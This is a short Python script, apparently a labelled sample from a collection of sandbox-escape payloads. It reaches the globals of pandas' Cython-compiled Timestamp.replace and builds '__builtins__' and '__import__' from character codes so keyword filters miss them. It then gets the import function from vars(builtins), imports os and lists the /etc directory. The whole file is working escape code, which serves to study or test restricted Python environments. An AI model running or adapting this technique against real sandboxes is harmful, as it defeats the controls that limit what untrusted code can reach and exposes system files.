# source: Cython cyfunction func_globals alias; pyjail cheat sheets (vars(builtins)[name] as getattr); functools.partial/operator.getitem as call forms
# family: cyfunction func_globals (Timestamp.replace through a lambda's default), item read through functools.partial(operator.getitem), builtins.vars for a name-keyed lookup
# goal: fetches __import__ from vars(builtins) by a run-time key and imports this; lists /etc through os
import functools
import operator
import pandas as pd

grab = lambda f=pd.Timestamp.replace: f.func_globals
item = functools.partial(operator.getitem, grab())
u = "".join(map(chr, [95, 95]))
b = item(u + "builtins" + u)
d = b.vars(b)
imp = d[u + "import" + u]
imp("this")
print(sorted(imp("os").listdir(chr(47) + "etc"))[:10])
